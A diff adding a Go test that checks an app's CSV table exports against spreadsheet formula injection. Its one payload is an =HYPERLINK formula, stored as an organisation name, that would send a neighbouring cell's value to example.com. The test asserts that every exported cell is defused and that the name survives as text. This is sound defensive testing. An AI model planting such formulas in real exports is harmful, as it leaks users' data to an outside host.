@@ -1,0 +1,43 @@
+package ui_test
+
+import (
+	"context"
+	"encoding/csv"
+	"strings"
+	"testing"
+)
+
+// A member's name is the header of its column in the umbrella's tables. A
+// name a spreadsheet would run as a formula reaches the project leader's
+// Excel as text in every downloaded table, the header row included.
+func TestCSVHeadersAreDefused(t *testing.T) {
+	a := newApp(t)
+	const evil = `=HYPERLINK("http://example.com/?x="&A2,"Osby")`
+	if _, err := a.db.Owner.Exec(context.Background(), `UPDATE orgs SET name = $1 WHERE key = '1273'`, evil); err != nil {
+		t.Fatal(err)
+	}
+	c := a.client()
+	c.signIn("projektledare@within.demo")
+	for _, tbl := range []string{"indikatorer", "andelar", "kaa-lista", "enkat", "kanaler", "utfall", "sysselsattning"} {
+		res := c.get("/p/within/paraply/tabell/" + tbl)
+		if res.Status != 200 {
+			t.Fatalf("%s: status %d", tbl, res.Status)
+		}
+		records, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
+		if err != nil || len(records) == 0 {
+			t.Fatalf("%s: not CSV (%v):\n%s", tbl, err, res.Body)
+		}
+		found := false
+		for _, rec := range records {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+					t.Errorf("%s: a cell a spreadsheet would run as a formula: %q", tbl, cell)
+				}
+				found = found || cell == "'"+evil
+			}
+		}
+		if !found {
+			t.Errorf("%s: the member's name is not in the table as text:\n%s", tbl, res.Body)
+		}
+	}
+}
